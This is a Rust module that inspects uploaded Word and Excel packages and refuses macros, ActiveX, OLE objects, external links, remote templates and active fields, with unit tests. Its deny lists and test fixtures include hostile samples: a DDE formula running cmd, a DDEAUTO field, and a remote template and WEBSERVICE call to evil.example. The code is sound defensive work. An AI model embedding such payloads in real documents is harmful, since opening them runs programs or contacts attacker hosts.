//! Inspection of an uploaded Word or Excel file (an OOXML package) before it is stored: the
//! package must declare a Word document or an Excel workbook as its main part, and must not
//! carry what makes such files dangerous to the people who open them later — macros, ActiveX
//! controls, embedded OLE programs, external workbook links or remote templates. Everything is
//! read with bounded sizes; nothing declared by the file is trusted for an allocation.

use quick_xml::events::Event;
use std::io::{Cursor, Read};

/// What an accepted package is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum OfficeKind {
    Docx,
    Xlsx,
}

impl OfficeKind {
    pub fn content_type(self) -> &'static str {
        match self {
            OfficeKind::Docx => {
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
            }
            OfficeKind::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        }
    }
    pub fn extension(self) -> &'static str {
        match self {
            OfficeKind::Docx => "docx",
            OfficeKind::Xlsx => "xlsx",
        }
    }
}

const MAX_ENTRIES: usize = 2_000;
const MAX_DECLARED: u64 = 400 * 1024 * 1024;
/// Content-type and relationship parts are small; a larger one is not a real package.
const MAX_PART: u64 = 2 * 1024 * 1024;

const DOCX_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const XLSX_MAIN: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

const NOT_OFFICE: &str = "文件不是有效的 Word（.docx）或 Excel（.xlsx）文档";

/// What a package may contain besides XML: pictures, fonts, printer settings and embedded
/// Office files (charts). Anything else — a program, a shortcut, a web page — is refused.
fn allowed_part(name: &str) -> bool {
    let ext = name.rsplit('.').next().unwrap_or("");
    match ext {
        "xml" | "rels" | "vml" => true,
        "png" | "jpg" | "jpeg" | "gif" | "bmp" | "tif" | "tiff" | "emf" | "wmf" | "svg"
        | "webp" => name.contains("/media/") || name.starts_with("docprops/"),
        "odttf" | "ttf" | "fntdata" => name.contains("/fonts/"),
        "bin" => name.contains("/printersettings/"),
        "xlsx" | "docx" => name.contains("/embeddings/"),
        _ => false,
    }
}

/// Checks a ZIP upload as an OOXML package; the error is a Chinese sentence for the user.
///
/// Refused: a package without a Word document or Excel workbook as its (existing) main part;
/// any part that is not XML, a picture, a font, printer settings or an embedded Office file;
/// macros, ActiveX, OLE objects, external links and templates, HTML chunks; and active
/// fields and formulas — DDE, INCLUDEPICTURE/INCLUDETEXT/LINK/IMPORT fields in Word, DDE
/// (`cmd|'…'!A0`), WEBSERVICE, CALL/REGISTER/EXEC in Excel formulas.
pub fn inspect(bytes: &[u8]) -> Result<OfficeKind, String> {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).map_err(|_| NOT_OFFICE.to_string())?;
    if zip.len() > MAX_ENTRIES {
        return Err("文档结构异常（内部文件过多），已拒绝".into());
    }
    let mut declared = 0u64;
    let mut rels = vec![];
    let mut scanned = vec![];
    let mut names = std::collections::HashSet::new();
    let mut content_types = None;
    for i in 0..zip.len() {
        let f = zip.by_index_raw(i).map_err(|_| NOT_OFFICE.to_string())?;
        declared = declared.saturating_add(f.size());
        let name = f
            .name()
            .map_err(|_| NOT_OFFICE.to_string())?
            .replace('\\', "/")
            .trim_start_matches('/')
            .to_ascii_lowercase();
        if name.ends_with('/') {
            continue;
        }
        if name.contains("vbaproject") || name.contains("vbadata") {
            return Err("文档含有宏，不能上传（请另存为不含宏的 .docx 或 .xlsx）".into());
        }
        if name.contains("/activex/") {
            return Err("文档含有 ActiveX 控件，不能上传".into());
        }
        if name.contains("/externallinks/") {
            return Err("工作簿含有指向其他文件的外部链接，不能上传（请先断开链接）".into());
        }
        if name.contains("/embeddings/") && name.ends_with(".bin") {
            return Err("文档内嵌了 OLE 对象（可能是程序），不能上传".into());
        }
        if name == "[content_types].xml" {
            content_types = Some((i, f.size()));
        } else if !allowed_part(&name) {
            return Err(format!(
                "文档中含有不应出现的文件（{}），不能上传",
                name.rsplit('/').next().unwrap_or(&name)
            ));
        } else if name.ends_with(".rels") {
            rels.push((i, f.size()));
        } else if name.ends_with(".xml")
            && (name.starts_with("word/") || name.starts_with("xl/worksheets/"))
        {
            scanned.push((i, f.size()));
        }
        names.insert(name);
    }
    if declared > MAX_DECLARED {
        return Err("文档解压后过大，已拒绝".into());
    }
    let (ct_index, ct_size) = content_types.ok_or_else(|| NOT_OFFICE.to_string())?;
    let types = part_text(&mut zip, ct_index, ct_size)?;
    let (kind, main) = main_kind(&types)?;
    // the main part the content types name must be in the package
    if !names.contains(main.trim_start_matches('/').to_ascii_lowercase().as_str()) {
        return Err(NOT_OFFICE.to_string());
    }
    for (i, size) in rels {
        let text = part_text(&mut zip, i, size)?;
        check_relationships(&text)?;
    }
    for (i, size) in scanned {
        let f = zip.by_index(i).map_err(|_| NOT_OFFICE.to_string())?;
        check_active(
            std::io::BufReader::new(f.take(size.saturating_add(1))),
            kind,
        )?;
    }
    Ok(kind)
}

/// Word fields that run or fetch something when the document is opened, and Excel formulas that
/// reach outside the workbook.
fn check_active<R: std::io::BufRead>(xml: R, kind: OfficeKind) -> Result<(), String> {
    let mut reader = quick_xml::Reader::from_reader(xml);
    let mut buf = Vec::with_capacity(4096);
    // text of <w:instrText> and <f> (entity and character references resolved, so `&#68;DE`
    // is DDE), and the instr attribute of <w:fldSimple>
    let mut code: Option<String> = None;
    loop {
        buf.clear();
        match reader
            .read_event_into(&mut buf)
            .map_err(|_| NOT_OFFICE.to_string())?
        {
            Event::Start(e) | Event::Empty(e) => {
                let local = e.local_name();
                let local = local.as_ref();
                if local == "altChunk" {
                    return Err("文档内嵌了网页或其他格式的内容，不能上传".into());
                }
                if matches!(
                    (kind, local),
                    (OfficeKind::Docx, "instrText") | (OfficeKind::Xlsx, "f")
                ) {
                    code = Some(String::new());
                }
                if local == "fldSimple" {
                    for a in e.attributes().flatten() {
                        if a.key.local_name().as_ref() == "instr" {
                            let v = a
                                .normalized_value(quick_xml::XmlVersion::Implicit1_0)
                                .map_err(|_| NOT_OFFICE.to_string())?;
                            active_code(&v, kind)?;
                        }
                    }
                }
            }
            Event::Text(t) => {
                if let Some(c) = code.as_mut() {
                    c.push_str(&t);
                }
            }
            Event::GeneralRef(r) => {
                if let Some(c) = code.as_mut() {
                    match r.resolve_char_ref() {
                        Ok(Some(ch)) => c.push(ch),
                        _ => c.push_str(match &*r {
                            "amp" => "&",
                            "lt" => "<",
                            "gt" => ">",
                            "quot" => "\"",
                            "apos" => "'",
                            _ => "?",
                        }),
                    }
                }
            }
            Event::End(_) => {
                if let Some(c) = code.take() {
                    active_code(&c, kind)?;
                }
            }
            Event::Eof => return Ok(()),
            _ => {}
        }
    }
}

fn active_code(code: &str, kind: OfficeKind) -> Result<(), String> {
    let upper = code.to_ascii_uppercase();
    let word = |w: &str| {
        upper
            .split(|c: char| !c.is_ascii_alphanumeric() && c != '.')
            .any(|t| t == w)
    };
    let bad = match kind {
        OfficeKind::Docx => [
            "DDE",
            "DDEAUTO",
            "INCLUDEPICTURE",
            "INCLUDETEXT",
            "LINK",
            "IMPORT",
        ]
        .iter()
        .any(|w| word(w)),
        OfficeKind::Xlsx => {
            // DDE: application|'topic'!item
            upper.contains('|')
                || [
                    "WEBSERVICE",
                    "CALL",
                    "REGISTER",
                    "REGISTER.ID",
                    "EXEC",
                    "FILTERXML",
                ]
                .iter()
                .any(|f| upper.contains(&format!("{f}(")))
        }
    };
    if bad {
        Err(match kind {
            OfficeKind::Docx => "文档含有会自动运行程序或访问外部地址的域代码，不能上传".into(),
            OfficeKind::Xlsx => "工作簿含有会运行程序或访问外部地址的公式，不能上传".into(),
        })
    } else {
        Ok(())
    }
}

fn part_text(
    zip: &mut zip::ZipArchive<Cursor<&[u8]>>,
    index: usize,
    size: u64,
) -> Result<String, String> {
    if size > MAX_PART {
        return Err("文档结构异常，已拒绝".into());
    }
    let f = zip.by_index(index).map_err(|_| NOT_OFFICE.to_string())?;
    let mut text = String::new();
    f.take(MAX_PART + 1)
        .read_to_string(&mut text)
        .map_err(|_| NOT_OFFICE.to_string())?;
    Ok(text)
}

/// The kind named by `[Content_Types].xml` and its main part's name; macro-enabled kinds and
/// HTML parts are refused.
fn main_kind(types: &str) -> Result<(OfficeKind, String), String> {
    let mut reader = quick_xml::Reader::from_str(types);
    let mut found = None;
    loop {
        match reader.read_event().map_err(|_| NOT_OFFICE.to_string())? {
            Event::Start(e) | Event::Empty(e) => {
                let mut part = String::new();
                let mut kind = None;
                for a in e.attributes() {
                    let a = a.map_err(|_| NOT_OFFICE.to_string())?;
                    match a.key.local_name().as_ref() {
                        "PartName" => part = a.value.to_string(),
                        "ContentType" => {
                            let v = a.value.to_ascii_lowercase();
                            if v.contains("macroenabled") || v.contains("vbaproject") {
                                return Err(
                                    "文档含有宏，不能上传（请另存为不含宏的 .docx 或 .xlsx）"
                                        .into(),
                                );
                            }
                            if v.contains("activex") {
                                return Err("文档含有 ActiveX 控件，不能上传".into());
                            }
                            if v.contains("html") || v.contains("afchunk") {
                                return Err("文档内嵌了网页或其他格式的内容，不能上传".into());
                            }
                            if v == DOCX_MAIN {
                                kind = Some(OfficeKind::Docx);
                            } else if v == XLSX_MAIN {
                                kind = Some(OfficeKind::Xlsx);
                            }
                        }
                        _ => {}
                    }
                }
                if let Some(k) = kind
                    && !part.is_empty()
                {
                    found = Some((k, part));
                }
            }
            Event::Eof => break,
            _ => {}
        }
    }
    found.ok_or_else(|| NOT_OFFICE.to_string())
}

/// External targets are allowed only for hyperlinks: an external template, frame, OLE link or
/// workbook link is fetched by the office program when someone opens the file.
fn check_relationships(xml: &str) -> Result<(), String> {
    let mut reader = quick_xml::Reader::from_str(xml);
    loop {
        match reader.read_event().map_err(|_| NOT_OFFICE.to_string())? {
            Event::Start(e) | Event::Empty(e) if e.local_name().as_ref() == "Relationship" => {
                let mut external = false;
                let mut hyperlink = false;
                for a in e.attributes() {
                    let a = a.map_err(|_| NOT_OFFICE.to_string())?;
                    match a.key.local_name().as_ref() {
                        "TargetMode" => external = a.value.eq_ignore_ascii_case("external"),
                        "Type" => {
                            hyperlink = a.value.ends_with("/hyperlink");
                            // parts that run code, whatever file they point at
                            let t = a.value.to_ascii_lowercase();
                            if [
                                "vbaproject",
                                "oleobject",
                                "activexcontrol",
                                "activexcontrolbinary",
                                "afchunk",
                            ]
                            .iter()
                            .any(|k| t.ends_with(k))
                            {
                                return Err("文档含有宏、OLE 对象或内嵌网页，不能上传".into());
                            }
                        }
                        _ => {}
                    }
                }
                if external && !hyperlink {
                    return Err(
                        "文档引用了外部模板或外部对象（打开时会访问其他地址），不能上传".into(),
                    );
                }
            }
            Event::Eof => return Ok(()),
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    fn package(parts: &[(&str, &str)]) -> Vec<u8> {
        let mut buf = Cursor::new(Vec::new());
        {
            let mut z = zip::ZipWriter::new(&mut buf);
            for (name, text) in parts {
                z.start_file(*name, zip::write::SimpleFileOptions::default())
                    .unwrap();
                z.write_all(text.as_bytes()).unwrap();
            }
            z.finish().unwrap();
        }
        buf.into_inner()
    }

    fn types(main: &str) -> String {
        format!(
            r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="{main}"/></Types>"#
        )
    }

    #[test]
    fn real_documents_pass() {
        let xlsx = crate::workbook::template().unwrap();
        assert_eq!(inspect(&xlsx), Ok(OfficeKind::Xlsx));
        let docx = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            ("main.xml", "<w:document/>"),
            (
                "word/_rels/document.xml.rels",
                r#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.cn" TargetMode="External"/></Relationships>"#,
            ),
            ("word/document.xml", "<w:document/>"),
        ]);
        assert_eq!(inspect(&docx), Ok(OfficeKind::Docx));
    }

    #[test]
    fn dangerous_or_fake_packages_are_refused() {
        // a ZIP of HTML with xl/ in its names
        let html = package(&[("xl/index.html", "<script>alert(1)</script>")]);
        assert!(inspect(&html).unwrap_err().contains("不应出现的文件"));
        // macro-enabled workbook
        let xlsm = package(&[
            (
                "[Content_Types].xml",
                &types("application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
            ),
            ("xl/workbook.xml", "<workbook/>"),
        ]);
        assert!(inspect(&xlsm).unwrap_err().contains("宏"));
        // a macro project hidden in an ordinary-looking workbook
        let hidden = package(&[
            ("[Content_Types].xml", &types(XLSX_MAIN)),
            ("xl/vbaProject.bin", "x"),
        ]);
        assert!(inspect(&hidden).unwrap_err().contains("宏"));
        // external workbook link
        let linked = package(&[
            ("[Content_Types].xml", &types(XLSX_MAIN)),
            ("xl/externalLinks/externalLink1.xml", "<externalLink/>"),
        ]);
        assert!(inspect(&linked).unwrap_err().contains("外部链接"));
        // remote template (template injection)
        let remote = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            ("main.xml", "<w:document/>"),
            (
                "word/_rels/settings.xml.rels",
                r#"<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
            ),
        ]);
        assert!(inspect(&remote).unwrap_err().contains("外部模板"));
        // embedded OLE program
        let ole = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            ("word/embeddings/oleObject1.bin", "MZ"),
        ]);
        assert!(inspect(&ole).unwrap_err().contains("OLE"));
        assert!(inspect(b"PK\x03\x04garbage").is_err());
    }

    #[test]
    fn copied_content_types_or_active_content_are_refused() {
        // the content types of a real document, but none of its parts: programs instead
        let fake = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            ("invoice.pdf.exe", "MZ"),
        ]);
        assert!(inspect(&fake).unwrap_err().contains("不应出现的文件"));
        let hollow = package(&[("[Content_Types].xml", &types(DOCX_MAIN))]);
        assert!(inspect(&hollow).unwrap_err().contains("不是有效"));
        let doc = |body: &str| {
            package(&[
                ("[Content_Types].xml", &types(DOCX_MAIN)),
                ("main.xml", "<w:document/>"),
                ("word/document.xml", body),
            ])
        };
        for body in [
            r#"<w:document><w:fldSimple w:instr="DDEAUTO c:\windows\system32\cmd.exe"/></w:document>"#,
            r#"<w:document><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/x.png" </w:instrText></w:r></w:document>"#,
            r#"<w:document><w:altChunk r:id="x"/></w:document>"#,
        ] {
            assert!(inspect(&doc(body)).is_err(), "{body}");
        }
        assert!(
            inspect(&doc(
                "<w:document><w:r><w:t>DDE 是一个词</w:t></w:r></w:document>"
            ))
            .is_ok()
        );
        let book = |formula: &str| {
            package(&[
                ("[Content_Types].xml", &types(XLSX_MAIN)),
                ("main.xml", "<workbook/>"),
                (
                    "xl/worksheets/sheet1.xml",
                    &format!(
                        "<worksheet><sheetData><row><c><f>{formula}</f></c></row></sheetData></worksheet>"
                    ),
                ),
            ])
        };
        assert!(inspect(&book("cmd|' /C calc'!A0")).is_err());
        assert!(inspect(&book("WEBSERVICE(\"http://evil.example/\")")).is_err());
        assert!(inspect(&book("SUM(A1:A9)")).is_ok());
        assert!(
            inspect(&book("cmd&#124;' /C calc'!A0")).is_err(),
            "a character reference"
        );
        let embedded_exe = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            ("main.xml", "<w:document/>"),
            ("word/embeddings/Package1.exe", "MZ"),
        ]);
        assert!(inspect(&embedded_exe).is_err());
        let ole_rel = package(&[
            ("[Content_Types].xml", &types(DOCX_MAIN)),
            ("main.xml", "<w:document/>"),
            (
                "word/_rels/document.xml.rels",
                r#"<Relationships><Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="media/image9.png"/></Relationships>"#,
            ),
        ]);
        assert!(inspect(&ole_rel).is_err());
    }
}
